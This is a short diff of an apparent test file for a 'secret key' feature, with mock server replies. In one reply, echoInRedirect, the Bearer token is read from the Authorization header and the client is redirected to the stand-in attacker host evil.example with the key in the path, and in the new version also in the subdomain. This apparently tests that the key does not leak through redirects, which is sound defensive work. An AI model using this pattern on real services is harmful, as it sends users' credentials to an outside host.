@@ -13,8 +13,8 @@ describe('the secret key', () => {
     response.end(JSON.stringify({ message: `Could not understand "${given}"` }))
   }
   const echoInRedirect: Reply = (request, response) => {
-    const key = (request.headers.authorization ?? '').replace('Bearer ', '').replaceAll('_', '-')
-    response.writeHead(302, { location: `https://evil.example/${key}` })
+    const key = (request.headers.authorization ?? '').replace('Bearer ', '')
+    response.writeHead(302, { location: `https://${key}.evil.example/${key}` })
     response.end()
   }
   const echoInSuccess: Reply = (request, response) => {
